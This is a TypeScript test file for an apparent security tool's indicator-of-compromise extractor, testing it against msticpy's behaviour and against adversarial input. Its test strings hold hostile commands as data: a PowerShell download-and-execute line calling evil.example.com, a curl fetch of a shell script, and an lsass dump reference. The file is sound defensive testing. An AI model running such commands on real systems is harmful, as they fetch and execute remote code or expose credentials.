/**
 * socbot's deliberate differences from msticpy's IoC extraction (facts §j.6), each named, checked against
 * msticpy's own behaviour probes, plus adversarial inputs that must stay linear.
 */
import { describe, expect, it } from 'vitest';
import { extractIocs } from '../../../src/analysis/iocs/extract.js';
import { hasReferenceCases, iocCases, sortedByType, sortedObserved } from './reference-cases.js';

/** Probes where socbot's output differs from msticpy's on purpose, with the reason. */
const DELIBERATE: Record<string, { why: string; expected: Record<string, string[]> }> = {
  "powershell -c iex (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')": {
    why: "dns needs word boundaries (a.ps1 is not a.ps); URL drops the trailing ')",
    expected: {
      dns: ['evil.example.com'],
      linux_path: ["//evil.example.com/a.ps1')"],
      url: ['http://evil.example.com/a.ps1'],
    },
  },
  'see https://good.com/redirect?u=https%3A%2F%2Fbad.example.org%2Fpayload': {
    why: 'no %2F in domains; the redirect target URL and host are reported',
    expected: {
      dns: ['bad.example.org', 'good.com'],
      linux_path: ['//good.com/redirect?u=https%3A%2F%2Fbad.example.org%2Fpayload'],
      url: [
        'https://bad.example.org/payload',
        'https://good.com/redirect?u=https%3A%2F%2Fbad.example.org%2Fpayload',
        'https://good.com/redirect?u=https://bad.example.org/payload',
      ],
    },
  },
  'ping 192.168.1.1 && ping 999.999.999.999': {
    why: 'ipv4 octets must be ≤ 255',
    expected: { ipv4: ['192.168.1.1'] },
  },
  '/usr/bin/curl -o /tmp/x http://1.2.3.4:8080/x.sh': {
    why: 'x.sh after / is a file name, not a domain',
    expected: {
      ipv4: ['1.2.3.4'],
      linux_path: ['//1.2.3.4:8080', '/usr/bin/curl -o /tmp/x', '/x.sh'],
      url: ['http://1.2.3.4:8080/x.sh'],
    },
  },
  'd41d8cd98f00b204e9800998ecf8427e d41d8cd98f00b204e9800998ecf8427f': {
    why: 'both of two single-space-separated hashes are found',
    expected: { md5_hash: ['d41d8cd98f00b204e9800998ecf8427e', 'd41d8cd98f00b204e9800998ecf8427f'] },
  },
  'started at 10:22:33 today': { why: 'a time is not an IPv6 address', expected: {} },
  'mac 00:1a:2b:3c:4d:5e end': { why: 'a MAC address is not an IPv6 address', expected: {} },
  'http://[2001:db8::1]/x': {
    why: 'IPv6-literal URL host (msticpy cuts the URL at the first colon and reports dns "[2001")',
    expected: { ipv6: ['2001:db8::1'], linux_path: ['//[2001:db8::1]', '/x'], url: ['http://[2001:db8::1]/x'] },
  },
};

describe.skipIf(!hasReferenceCases)('msticpy behaviour probes (iocextract_cases.json)', () => {
  for (const probe of iocCases()?.behaviour_probes ?? []) {
    const deliberate = DELIBERATE[probe.input];
    const name = deliberate
      ? `${probe.input} — differs deliberately: ${deliberate.why}`
      : `${probe.input} — as msticpy`;
    it(name, () => {
      const expected = deliberate?.expected ?? sortedObserved(probe.string_default);
      expect(sortedByType(extractIocs(probe.input))).toEqual(expected);
    });
  }
});

describe('deliberate fixes of msticpy IoC bugs (facts §j.6)', () => {
  const found = (text: string) => sortedByType(extractIocs(text, { includePaths: false }));

  it('FIX ipv4 octets must be ≤ 255 (msticpy reports 999.999.999.999 and 300.1.1.1)', () => {
    expect(found('a 300.1.1.1 b 256.256.256.256 c 255.255.255.255')).toEqual({ ipv4: ['255.255.255.255'] });
  });

  it('FIX dns needs word boundaries: a.ps1 is not the domain a.ps, libc.so.6 is not libc.so', () => {
    expect(found('run a.ps1 then libc.so.6')).toEqual({});
  });

  it('FIX URLs do not swallow trailing \', ", ) or ;', () => {
    expect(
      found(`iex('http://a.example.com/x'); "https://b.example.com/y"; (see http://c.example.com/z);`).url,
    ).toEqual(['http://a.example.com/x', 'http://c.example.com/z', 'https://b.example.com/y']);
  });

  it('keeps balanced parentheses inside a URL path', () => {
    expect(found('read https://en.wikipedia.org/wiki/Foo_(bar) now').url).toEqual([
      'https://en.wikipedia.org/wiki/Foo_(bar)',
    ]);
  });

  it('FIX both of two hashes separated by a single character are found', () => {
    const a = 'a'.repeat(31);
    expect(found(`${a}1,${a}2;${a}3`).md5_hash).toEqual([`${a}1`, `${a}2`, `${a}3`]);
  });

  it('FIX file names with TLD-like extensions are not domains (run.py, update.zip, lsass.dmp, /tmp/x.sh)', () => {
    expect(found('python run.py; expand update.zip; procdump lsass.dmp; sh /tmp/x.sh; C:\\t\\evil.one')).toEqual({});
  });

  it('still reports real domains on those TLDs: URL hosts, emails and longer names', () => {
    expect(found('get http://evil.zip/p and mail a@evil.sh or cdn.example.zip').dns).toEqual([
      'cdn.example.zip',
      'evil.sh',
      'evil.zip',
    ]);
  });

  it('FIX IPv6 must not match times like 10:22:33 (real IPv6 still found)', () => {
    expect(found('at 10:22:33 from fe80::1 and 2001:db8::8a2e:370:7334')).toEqual({
      ipv6: ['2001:db8::8a2e:370:7334', 'fe80::1'],
    });
  });

  it('FIX a URL userinfo is not an email (msticpy reports //myuser@host)', () => {
    expect(found('https://myuser@some.domain.es:88/x').email).toBeUndefined();
  });

  it('returns defanged observables as found', () => {
    expect(found('hxxps://evil[.]com/x from 8[.]8[.]8[.]8')).toEqual({
      dns: ['evil[.]com'],
      ipv4: ['8[.]8[.]8[.]8'],
      url: ['hxxps://evil[.]com/x'],
    });
  });
});

describe('IoC extraction stays linear on adversarial input', () => {
  const MB = 1_000_000;
  const adversarial: Record<string, string> = {
    'one long label': 'a'.repeat(MB),
    'dotted labels without a TLD': 'a1.'.repeat(MB / 3),
    slashes: '/'.repeat(MB),
    'backslash-space runs': '\\ '.repeat(MB / 2),
    dots: '.'.repeat(MB),
    'colons and hex': '1:'.repeat(MB / 2),
    'email-like runs without @': 'a.b!c#'.repeat(MB / 6),
    'many @': 'x@'.repeat(MB / 2),
    'hex runs of 31': `${'f'.repeat(31)} `.repeat(MB / 32),
    'nested scheme': 'http://'.repeat(MB / 7),
    'closing parentheses': `http://x.example.com/${')'.repeat(MB)}`,
    'percent escapes': `http://x.example.com/${'%41'.repeat(MB / 3)}`,
  };
  for (const [name, text] of Object.entries(adversarial)) {
    it(`completes on 1 MB of ${name}`, { timeout: 5000 }, () => {
      expect(extractIocs(text)).toBeInstanceOf(Map);
    });
  }
});
